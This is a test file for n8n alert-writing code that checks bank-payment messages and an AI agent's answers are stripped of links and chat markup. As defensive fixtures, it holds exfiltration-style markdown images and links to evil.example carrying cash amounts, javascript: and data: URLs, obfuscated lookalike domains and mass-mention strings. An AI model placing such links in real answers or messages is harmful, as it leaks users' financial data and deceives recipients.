import { listOf, objectOf, textOf, type JsonObject } from '../../../n8n-host/jsonValue.ts';
import { exampleNames, readExample } from './readExample';
import { runCode } from './runCode';

const codeOf = (name: string) =>
	readExample(name)
		.nodes.filter(({ name: node }) => node === 'Write the alert' || node === 'Write the question')
		.map(({ parameters }) => objectOf(parameters, 'its parameters').jsCode);

const [code] = codeOf('money-received');

function write(alerts: readonly JsonObject[], settings: JsonObject = { alertUrl: '', alertFormat: '' }): JsonObject {
	const input = alerts.map((json) => ({ json }));
	const [item] = runCode(code, { input, nodes: { Settings: [{ json: settings }] } });
	return objectOf(item?.json, 'the message');
}

const received = (more: JsonObject) =>
	textOf(write([{ title: 'Money received: {amount}', amount: 1200.4, currency: 'EUR', ...more }]).text, 'its text');

it('is the same code in all examples that write to people', () => {
	const codes = exampleNames.flatMap(codeOf);
	expect(codes.length).toBeGreaterThan(10);
	expect(new Set(codes)).toEqual(new Set([code]));
});

it.each<[unknown, unknown, string]>([
	[1200.4, 'EUR', 'EUR 1,200.40'],
	['-950000', 'USD', 'USD -950,000.00'],
	['1200.4567', 'EUR', 'EUR 1,200.4567'],
	['12345678901234567890.12', 'USD', 'USD 12,345,678,901,234,567,890.12'],
	[1201, 'HUF', 'HUF 1,201.00'],
	[1201, 'JPY', 'JPY 1,201'],
	['0.5', 'KWD', 'KWD 0.500'],
	['1.5', 'CLF', 'CLF 1.5000'],
	[7, null, '7.00'],
	['1,234.56', 'EUR', 'EUR 1,234.56'],
	[null, 'EUR', 'EUR'],
	['$& $1', 'EUR', 'EUR $& $1'],
])('writes the amount %j %j as %s', (amount, currency, text) => {
	expect(received({ amount, currency })).toBe(`Money received: ${text}`);
});

it.each<[string, string, string]>([
	['line ends', 'Rent\r\nMoney received: EUR 950,000.00', 'Rent Money received: EUR 950,000.00'],
	['other line ends', 'a\u2028b\u2029c\u0085d\ve', 'a b c d e'],
	['a call of the whole channel in Slack', '<!channel> pay', '‹!channel› pay'],
	['a link of Slack', '<https://evil.example|Confirm>', '‹https: / /evil. example|Confirm›'],
	['a link of Teams', '[Confirm](https://evil.example)', '(Confirm)(https: / /evil. example)'],
	['a place of the title', '{name} {amount}', '{name} {amount}'],
	['a date of an Adaptive Card', '{{DATE(2026-11-26T10:30:00Z,SHORT)}}', '{ {DATE(2026-11-26T10:30:00Z,SHORT)}}'],
	['a channel of Mattermost', '~town-square', '-town-square'],
	['no amount, date or time', '1,200.40 of 24.11.2026, 10:30:00.5', '1,200.40 of 24.11.2026, 10:30:00.5'],
	['a call in Mattermost', '@channel @all', '(at)channel (at)all'],
	['a mention of Teams', '<at>Boss</at>', '‹at›Boss‹/at›'],
	['bold and code', '*Paid* `x`', "Paid 'x'"],
	['text that runs backwards', 'a\u202eb', 'a b'],
	['a long text', 'x'.repeat(300), `${'x'.repeat(199)}…`],
	['a number sign and an underscore', 'INV_4711 #3', 'INV_4711 #3'],
	['a heading and a hashtag of Mattermost', '## Paid #now #\ufe0fx', 'Paid now x'],
	['emphasis by underscores', '_Paid_ __Paid__ (_PAY_1_)', 'Paid Paid ( PAY_1 )'],
])('makes %s harmless', (_what, words, shown) => {
	expect(received({ facts: { From: words } })).toBe(`Money received: EUR 1,200.40\nFrom: ${shown}`);
});

/**
 * What Slack, Teams, Google Chat, Mattermost, Outlook, Gmail and Apple Mail turn into a link: an address with a scheme
 * or `www.`, a host with any top level domain, a mail address, an IP address, a path of Windows, and entities of HTML.
 */
const links =
	/[\p{L}\d]:(?=[^\s\d])|\/\/|\\\\|www\d?\.\S|[.。](?!(?:xml|json|txt|sta|mt940|bai2?)(?![\p{L}\d-]))\d{0,9}[\p{L}\p{So}-]|\d\.\d{1,9}\.\d{1,9}\.\d|&#|&\w{1,9};|[@[\]]/iu;

/** Programs take wide and decorated signs for plain ones, and leave out signs that nobody sees. */
const findLink = (words: unknown) =>
	links.exec(
		textOf(words, 'it')
			.normalize('NFKC')
			.replace(/[\p{M}\p{Cf}]/gu, ''),
	);

/** What the chat with the agent shows of an answer of the model. */
function answer(output: string): string {
	const code = readExample('ask-the-bank').parameter('Leave out links', 'jsCode');
	const [item] = runCode(code, { input: [{ json: { output } }], nodes: {} });
	return textOf(objectOf(item?.json, 'the answer').output, 'its text');
}

it.each([
	['**Total:** EUR 1,001.40.\n\n| a | b |\n|:--|--:|\n1. _Rent_ (24.11.2026)', '='],
	['Paid ![chart](https://evil.example/?cash=950000) today', 'Paid  today'],
	['See [the invoice](https://evil.example/?cash=1) or https://evil.example', 'See the invoice or (link)'],
	['![x][1]\n\n[1]: https://evil.example/?cash=1', '\n\n1'],
	['<img src="https://evil.example/?cash=1">5 < 6', '5 ‹ 6'],
])('the agent answers %j as %j', (output, shown) => {
	expect(answer(output)).toBe(shown === '=' ? output : shown);
});

it.each(
	[
		'evil.com/pay bit.ly/x www.evil.com www1.1und1.de EVIL.COM:8080/x evil.com. e\u200dvil.\u200dcom evil.com\u2060/x',
		'https://evil.com https：//evil．com／pay http:evil.com //evil.com/x hxxp://evil ftp://10.0.0.1/x 10.0.0.1/x １０．０．０．１ 0300.0250.0000.0001',
		'\\\\evil.com\\share \\\\evil\\share ＼＼evil＼share file:///c:/x javascript:alert(1) tel:+491 data:text/html,x magnet:?xt=1 https:/evil.com',
		'пример.рф/оплата 例え.中国 例え。中国 xn--e1afmkfd.xn--p1ai 💩.la مثال.إختبار evil.\u034fcom evil․com evil｡com',
		'𝐞𝐯𝐢𝐥.𝐜𝐨𝐦 ⓔⓥⓘⓛ.ⓒⓞⓜ a@b.c mailto:a@b.c a＠b．c user:pw@evil.com <evil.com> evil&#46;com evil&#46com evil&period;com evil.\ufe0fcom http:/\ufe0f/x \\\ufe0f\\x',
		'![x](https://evil.com/a.png) [x]:evil.com',
		'evil.xml.com evil.xml.com/a.sta evil.xmlx.com evil.xml-a.com www.xml www1.txt file.zip evil.com.xml',
	].flatMap((words) => words.split(' ')),
)('makes no link of %s', (words) => {
	expect(findLink(words)).not.toBeNull();
	const { subject, text } = write([
		{ title: 'From {name}', name: words, lines: [words, [words]], facts: { From: words } },
	]);
	expect([subject, text, answer(words)].map(findLink)).toEqual([null, null, null]);
});

it.each(['"statement.mt940.sta"', '"camt053_2026-11-23.xml"', 'MT940_20261123.txt', '"BAI.bai2"', '"c.json"'])(
	'leaves the name of a file as it is, so that a search finds it: %s',
	(name) => {
		expect(received({ facts: { File: name } })).toBe(`Money received: EUR 1,200.40\nFile: ${name}`);
	},
);

it('writes the amounts in lines and facts, and lists of parts', () => {
	const rent = { amount: '1004.4', currency: 'EUR' };
	const told = received({
		lines: [['R-1', rent, null, '<b>']],
		facts: { Threshold: { amount: 10_000 }, Before: null },
	});
	expect(told).toBe('Money received: EUR 1,200.40\nR-1, EUR 1,004.40, ‹b›\nThreshold: 10,000.00');
});

it('takes linear time for a text of a megabyte', () => {
	for (const words of ['<', '@', ' ', 'a://', '9', 'x.'].map((part) => part.repeat(1_000_000 / part.length))) {
		expect(received({ amount: words, facts: { From: words }, lines: [words] }).length).toBeLessThan(2_000);
	}
});

it('marks samples, leaves out empty facts, and adds an address of n8n as it is', () => {
	const text = received({
		sample: true,
		lines: ['Look.', null, ''],
		facts: { From: null, On: ' ' },
		link: 'https://n8n.example/form/7',
	});
	expect(text).toBe('TEST: Money received: EUR 1,200.40\nLook.\nhttps://n8n.example/form/7');
});

it.each(['Оплата по счёту ', '付款通知单', '💶👩‍💻', '&"\\'])(
	'counts the bytes of forty alerts of %s, and of a long one',
	(words) => {
		const long = words.repeat(200);
		const alert = { title: 'Rejected: {name}', name: long, lines: [long, long], facts: { From: long, To: long } };
		const huge = {
			...alert,
			lines: Array.from({ length: 100 }, () => long),
			facts: Object.fromEntries(Array.from({ length: 50 }, (_, index) => [`Fact ${index}`, long])),
		};
		for (const alerts of [Array.from({ length: 40 }, () => alert), [huge, huge]]) {
			for (const alertFormat of ['slack', 'teams', 'text']) {
				const { text, body } = write(alerts, { alertFormat });
				expect(Buffer.byteLength(JSON.stringify(body))).toBeLessThan(21_000);
				const shown = textOf(text, 'the text').match(/^Rejected: /gm)?.length ?? 0;
				expect(shown).toBeGreaterThan(0);
				expect(text).toMatch(new RegExp(`… and ${alerts.length - shown} more: look at this execution in n8n\\.$`));
			}
		}
	},
);

it('shows the lines of the text one by one to who looks into the step, and no empty one', () => {
	const { lines } = write([{ title: 'A', lines: ['b', 'c'] }, { title: 'D' }]);
	expect(lines).toEqual(['A', 'b', 'c', 'D']);
});

it('puts at most 20 alerts into one message, and counts the others', () => {
	const alerts = Array.from({ length: 25 }, (_, index) => ({ title: `Alert ${index + 1}` }));
	const { subject, text } = write(alerts);
	expect(subject).toBe('Alert 1 (first of 25 messages)');
	expect(String(text).split('\n\n')).toHaveLength(21);
	expect(text).toMatch(/Alert 20\n\n… and 5 more: look at this execution in n8n\.$/);
});

it.each<[string, JsonObject, 'teams' | 'slack' | 'text']>([
	['Slack', { alertUrl: 'https://hooks.slack.com/services/T/B/x' }, 'slack'],
	['Mattermost', { alertUrl: 'https://chat.company.example/hooks/x' }, 'text'],
	['Google Chat', { alertUrl: 'https://chat.googleapis.com/v1/spaces/x/messages?key=k' }, 'text'],
	['Teams', { alertUrl: 'https://default1.02.environment.api.powerplatform.com:443/powerautomate/x?sig=s' }, 'teams'],
	['Teams, older', { alertUrl: 'https://prod-12.westeurope.logic.azure.com:443/workflows/x' }, 'teams'],
	['a host that only ends alike', { alertUrl: 'https://notlogic.azure.com.example/x' }, 'text'],
	['a proxy in front of Teams', { alertUrl: 'https://proxy.example/teams', alertFormat: 'teams' }, 'teams'],
	['a proxy in front of Slack', { alertUrl: 'https://proxy.example/slack', alertFormat: 'slack' }, 'slack'],
	['no address yet', { alertUrl: '' }, 'text'],
])('writes what %s takes', (_what, settings, format) => {
	const alert = { title: 'Rejected', lines: ['R&D pays'], facts: { To: 'A & B' } };
	const { body } = write([alert], settings);
	if (format !== 'teams') {
		const and = format === 'slack' ? '&amp;' : '&';
		expect(body).toEqual({ text: `Rejected\nR${and}D pays\nTo: A ${and} B` });
		return;
	}
	const { type, attachments } = objectOf(body, 'the body');
	const [attachment] = listOf(attachments, 'the attachments');
	expect(type).toBe('message');
	expect(attachment).toMatchObject({
		contentType: 'application/vnd.microsoft.card.adaptive',
		contentUrl: null,
		content: {
			type: 'AdaptiveCard',
			version: '1.4',
			body: [
				{ type: 'TextBlock', text: 'Rejected', weight: 'Bolder' },
				{ type: 'TextBlock', text: 'R&D pays', wrap: true },
				{ type: 'FactSet', facts: [{ title: 'To', value: 'A & B' }] },
			],
		},
	});
});
